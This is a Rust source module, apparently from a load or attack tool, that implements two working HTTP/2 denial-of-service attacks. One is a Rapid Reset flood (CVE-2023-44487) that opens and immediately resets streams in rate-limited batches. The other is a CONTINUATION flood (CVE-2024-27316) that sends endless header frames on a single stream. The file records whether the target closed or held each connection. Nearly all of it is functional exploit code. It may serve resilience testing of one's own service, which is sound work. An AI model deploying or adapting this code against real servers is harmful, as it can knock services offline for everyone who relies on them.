//! HTTP/2 by hand: streams that are opened to be reset, and heads without an end.

use std::io;
use std::time::Duration;

use anyhow::Result;
use tokio::time::{Instant, sleep_until, timeout};

use super::{Answers, Attack, Target, note};
use crate::wire::Wire;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
/// Streams that are written at once.
const BATCH: usize = 100;

/// Opens streams and resets them at once (CVE-2023-44487).
pub(super) async fn resets(target: &Target, attack: Attack) -> Result<Answers> {
    let mut answers = Answers::new();
    let from = Instant::now();
    let mut sent = 0;
    while sent < attack.count {
        let mut wire = open(target).await?;
        let mut stream = 1;
        loop {
            sleep_until(from + Duration::from_secs_f64(sent as f64 / attack.rate)).await;
            let mut batch = Vec::new();
            for _ in 0..BATCH {
                frame(&mut batch, HEADERS, END_HEADERS, stream, &request(target));
                frame(&mut batch, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
                stream += 2;
            }
            sent += BATCH;
            *answers.entry("reset".into()).or_default() += BATCH;
            let written = timeout(Duration::from_secs(5), wire.send(&batch)).await;
            if !matches!(written, Ok(Ok(()))) {
                note(&mut answers, None);
                break;
            }
            if sent >= attack.count {
                break;
            }
        }
    }
    Ok(answers)
}

/// Sends heads that go on and on (CVE-2024-27316 and its like).
pub(super) async fn continuations(target: &Target, attack: Attack) -> Result<Answers> {
    let mut answers = Answers::new();
    let from = Instant::now();
    // One field a byte shorter than a frame, never indexed: name of one letter, value of 16,000.
    let mut field = vec![0x10, 1, b'x', 0x7f, 0x81, 0x7c];
    field.extend([b'a'; 16_000]);
    for n in 0..attack.count {
        sleep_until(from + Duration::from_secs_f64(n as f64 / attack.rate)).await;
        let mut wire = open(target).await?;
        let mut first = Vec::new();
        frame(&mut first, HEADERS, 0, 1, &request(target));
        let mut more = Vec::new();
        frame(&mut more, CONTINUATION, 0, 1, &field);
        let flood = async {
            wire.send(&first).await?;
            for _ in 0..1_000 {
                wire.send(&more).await?;
            }
            io::Result::Ok(())
        };
        let ended = matches!(timeout(Duration::from_secs(10), flood).await, Ok(Err(_)));
        let ended = ended || wire.until_closed().await;
        *answers
            .entry(if ended { "closed" } else { "held" }.into())
            .or_default() += 1;
    }
    Ok(answers)
}

async fn open(target: &Target) -> io::Result<Wire> {
    let mut wire = Wire::connect(target.address).await?;
    let mut begin = PREFACE.to_vec();
    frame(&mut begin, SETTINGS, 0, 0, &[]);
    wire.send(&begin).await?;
    Ok(wire)
}

/// A request's head, with nothing that HPACK would have to remember.
fn request(target: &Target) -> Vec<u8> {
    // `:method POST` and `:scheme http` of the static table, then `:path` and `:authority` in full.
    let mut out = vec![0x83, 0x86];
    for (index, value) in [
        (0x04, format!("/collect/{}", target.key)),
        (0x01, "collector".into()),
    ] {
        out.extend([index, value.len() as u8]);
        out.extend(value.as_bytes());
    }
    out
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend(payload);
}
